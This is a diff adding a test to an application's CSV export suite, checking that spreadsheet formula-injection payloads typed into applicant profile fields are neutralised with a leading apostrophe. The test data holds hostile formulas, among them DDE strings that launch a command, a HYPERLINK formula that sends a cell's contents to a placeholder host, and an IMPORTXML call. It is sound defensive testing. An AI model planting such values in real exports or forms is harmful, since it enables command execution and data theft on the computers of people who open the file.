@@ -191,3 +191,47 @@ test('the exports are in the OpenAPI document as text/csv', async () => {
   );
   expect(doc.paths['/admin/exports/profiles.csv']).toBeDefined();
 });
+
+test('a formula typed into any text column comes back as text, in both exports', async () => {
+  // What a user could type into the profile (all of it GSM-7), one formula trigger after another.
+  const hostile: Record<string, string> = {
+    full_name: '=HYPERLINK("http://x/?a="&A1,"c")',
+    national_id: '=1+1',
+    kra_pin: '@SUM(A1:B9)',
+    email: '+cmd|"/c calc"!A0',
+    mpesa_name: '-2+3+cmd|"/c calc"!A0',
+    bank_name: '\t=1+1',
+    bank_branch: '\r=1+1',
+    course: '=IMPORTXML(A1,"//a")',
+    institution: '=HYPERLINK("http://x/?a="&A1,"c")',
+    tsc_number: '@A1',
+    work_institution: '+A1',
+    designation: '-A1',
+    kin_name: '=A1',
+  };
+  const [acc] = await app
+    .db('accounts')
+    .insert({ phone: '+254100000777', username: '254100000777', password_hash: 'x' })
+    .returning('id');
+  const accountId = (acc as { id: number }).id;
+  // Genuinely numeric cells stay as they are: a negative number, an E.164 phone, digits in a text column.
+  const numeric = { birth_year: -1985, mpesa_phone: '+254711000001', bank_account: '-5' };
+  await app.db('profiles').insert({ account_id: accountId, ...hostile, ...numeric });
+  const vacancy = await app.db('vacancies').where({ id: fx.v.sup1 }).first('exam', 'activity');
+  await app.db('applications').insert({ account_id: accountId, vacancy_id: fx.v.sup1, ...vacancy });
+
+  const profiles = await csv(`/exports/profiles.csv?vacancy=${fx.v.sup1}`);
+  const profile = profiles.find((r) => r.account_id === String(accountId)) as Record<string, string>;
+  for (const [column, value] of Object.entries(hostile)) {
+    expect({ column, cell: profile[column] }).toEqual({ column, cell: `'${value}` });
+  }
+  expect(profile).toMatchObject({ birth_year: '-1985', mpesa_phone: '+254711000001', bank_account: '-5' });
+
+  const applications = await csv(`/exports/applications.csv?vacancy=${fx.v.sup1}`);
+  const application = applications.find((r) => r.full_name?.includes('HYPERLINK')) as Record<string, string>;
+  expect(application).toMatchObject({
+    full_name: `'${hostile.full_name}`,
+    national_id: `'${hostile.national_id}`,
+    applicant_phone: '+254100000777',
+  });
+});
